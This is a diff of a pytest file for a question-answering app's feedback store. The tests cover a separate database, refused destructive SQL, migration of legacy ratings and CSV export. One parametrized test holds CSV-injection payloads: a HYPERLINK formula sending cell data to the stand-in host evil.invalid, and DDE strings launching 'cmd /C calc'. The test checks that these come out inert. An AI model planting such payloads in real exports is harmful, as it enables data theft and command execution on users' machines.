@@ -1,4 +1,4 @@
-"""Feedback is kept in the index's SQLite, exported as CSV, and its connection cannot touch the corpus."""
+"""Feedback is kept in the web app's own SQLite (QA_APP_DB), exported as CSV, and its connection writes its table only."""
 from __future__ import annotations
 
 import csv
@@ -11,18 +11,24 @@ import sys
 
 import pytest
 
-from ingest.store import IndexReader
+from ingest.store import DB_NAME, IndexReader
 from qa.feedback import FeedbackStore
 from qa.models import NOT_FOUND, Answer, Citation
 
 
-def _answer() -> Answer:
+def _answer(question: str = "What is it?") -> Answer:
     cite = Citation("d1", "A report", 2, "Before. The answer, quoted. After.", 8, 27, 0.5, "/r.pdf", date="2024-01-01", passage_id=7)
-    return Answer("What is it?", "The answer, quoted.", False, 0.8, citations=[cite])
+    return Answer(question, "The answer, quoted.", False, 0.8, citations=[cite])
 
 
-def test_rating_is_stored_with_question_answer_and_citations(scratch_index):
-    store = FeedbackStore(scratch_index)
+@pytest.fixture
+def store(tmp_path):
+    store = FeedbackStore(tmp_path / "app-data" / "app.sqlite")
+    yield store
+    store.close()
+
+
+def test_rating_is_stored_with_question_answer_and_citations(store):
     entry_id = store.record(_answer(), "up")
     store.update(entry_id, rating="down", comment="Wrong page, <b>surely</b>")
     (entry,) = store.entries()
@@ -32,37 +38,45 @@ def test_rating_is_stored_with_question_answer_and_citations(scratch_index):
     assert (cited["title"], cited["page"], cited["passage_id"]) == ("A report", 2, 7)
 
 
-def test_an_abstention_keeps_the_related_passages_it_showed(scratch_index):
+def test_an_abstention_keeps_the_related_passages_it_showed(store):
     related = _answer().citations
-    store = FeedbackStore(scratch_index)
     store.record(Answer("Off topic?", NOT_FOUND, True, 0.1, related=related), "down")
     (entry,) = store.entries()
     assert entry.abstained and json.loads(entry.citations)[0]["doc_id"] == "d1"
 
 
-def test_withdrawn_rating_is_forgotten(scratch_index):
-    store = FeedbackStore(scratch_index)
+def test_withdrawn_rating_is_forgotten(store):
     store.withdraw(store.record(_answer(), "up"))
     assert store.entries() == []
 
 
-def test_unknown_rating_is_refused(scratch_index):
+def test_unknown_rating_is_refused(store):
     with pytest.raises(ValueError):
-        FeedbackStore(scratch_index).record(_answer(), "meh")
+        store.record(_answer(), "meh")
 
 
-def test_feedback_connection_cannot_change_the_corpus(scratch_index):
-    store = FeedbackStore(scratch_index)
-    for statement in ("DELETE FROM documents", "UPDATE passages SET text = 'x'", "DROP TABLE sentences",
-                      "INSERT INTO meta (key, value) VALUES ('generation', '99')", "CREATE TABLE extra (x)"):
+def test_feedback_connection_writes_its_own_table_only(store, scratch_index):
+    other = sqlite3.connect(store.path)  # another part of the app's database
+    other.execute("CREATE TABLE sessions (id TEXT)")
+    other.execute("INSERT INTO sessions VALUES ('s1')")
+    other.commit()
+    other.close()
+    for statement in ("DELETE FROM sessions", "UPDATE sessions SET id = 'x'", "DROP TABLE sessions",
+                      "INSERT INTO sessions VALUES ('s2')", "CREATE TABLE extra (x)",
+                      f"ATTACH DATABASE '{scratch_index / DB_NAME}' AS idx"):
         with pytest.raises(sqlite3.DatabaseError, match="not authorized"):
             store.conn.execute(statement)
-    reader = IndexReader(scratch_index)
-    assert len(reader.documents()) == 1 and reader.passage_count() > 0
+    assert store.conn.execute("SELECT id FROM sessions").fetchall() == [("s1",)]
 
 
-def test_csv_export_lists_every_entry(scratch_index):
-    store = FeedbackStore(scratch_index)
+def test_the_index_is_neither_needed_nor_touched(store, scratch_index):
+    before = (scratch_index / DB_NAME).read_bytes()
+    store.record(_answer(), "up")
+    assert (scratch_index / DB_NAME).read_bytes() == before
+    assert store.path.is_file() and store.path.parent.name == "app-data"
+
+
+def test_csv_export_lists_every_entry(store):
     store.record(_answer(), "up", comment='Great, "exactly" it')
     out = io.StringIO()
     assert store.write_csv(out) == 1
@@ -70,11 +84,53 @@ def test_csv_export_lists_every_entry(scratch_index):
     assert dict(zip(header, row))["comment"] == 'Great, "exactly" it'
 
 
-def test_qa_feedback_csv_command(scratch_index):
-    FeedbackStore(scratch_index).record(_answer(), "down", comment="Not this one")
-    out = subprocess.run(
-        [sys.executable, "-m", "qa.cli", "feedback", "--csv", "--index", str(scratch_index)],
-        capture_output=True, text=True, check=True, env={**os.environ, "PYTHONUTF8": "1"},
-    ).stdout
-    (row,) = csv.DictReader(io.StringIO(out))
-    assert (row["rating"], row["comment"], row["question"]) == ("down", "Not this one", "What is it?")
+@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"https://evil.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_csv_export_makes_formulas_inert(store, hostile):
+    """OWASP CSV injection: a cell a spreadsheet would evaluate starts with a single quote instead."""
+    store.record(_answer(question=hostile), "down", comment=hostile)
+    out = io.StringIO()
+    store.write_csv(out)
+    header, row = list(csv.reader(io.StringIO(out.getvalue())))
+    cells = dict(zip(header, row))
+    assert cells["question"] == cells["comment"] == "'" + hostile
+    assert cells["answer"] == "The answer, quoted." and cells["confidence"] == "0.8"  # other cells as they were
+
+
+def _legacy_feedback(index, rows):
+    """Ratings as the version before kept them: a feedback table inside the index's SQLite."""
+    from qa.feedback import _SCHEMA  # the same table definition
+
+    conn = sqlite3.connect(index / DB_NAME)
+    conn.execute(_SCHEMA)
+    conn.executemany("INSERT INTO feedback (created_at, rating, comment, question, answer, abstained, confidence,"
+                     " citations) VALUES (?, ?, ?, ?, ?, ?, ?, ?)", rows)
+    conn.commit()
+    conn.close()
+
+
+def test_ratings_kept_in_an_index_are_carried_over_once(store, scratch_index):
+    _legacy_feedback(scratch_index, [("2025-01-02T03:04:05+00:00", "up", "", "Who?", "Her.", 0, 0.9, "[]"),
+                                     ("2025-01-02T03:04:06+00:00", "down", "Wrong", "When?", "Then.", 0, 0.4, "[]")])
+    store.record(_answer(), "up")
+    assert store.import_from_index(scratch_index) == 2
+    assert store.import_from_index(scratch_index) == 0  # every start tries: nothing is copied twice
+    assert [(e.question, e.rating, e.comment) for e in store.entries()] == [
+        ("What is it?", "up", ""), ("Who?", "up", ""), ("When?", "down", "Wrong")]
+    assert IndexReader(scratch_index).documents()  # the index still opens; its old table is left as it was
+    assert store.import_from_index(scratch_index.parent / "no-index-here") == 0
+
+
+def test_qa_feedback_csv_command_carries_old_ratings_over_and_exports(scratch_index, tmp_path):
+    _legacy_feedback(scratch_index, [("2025-01-02T03:04:05+00:00", "up", "=cmd", "Who?", "Her.", 0, 0.9, "[]")])
+    db = tmp_path / "app.sqlite"
+    store = FeedbackStore(db)
+    store.record(_answer(), "down", comment="Not this one")
+    store.close()
+    command = [sys.executable, "-m", "qa.cli", "feedback", "--csv", "--db", str(db), "--index", str(scratch_index)]
+    for _ in range(2):
+        out = subprocess.run(command, capture_output=True, text=True, check=True,
+                             env={**os.environ, "PYTHONUTF8": "1"}).stdout
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert [(r["rating"], r["comment"], r["question"]) for r in rows] == [
+            ("down", "Not this one", "What is it?"), ("up", "'=cmd", "Who?")]
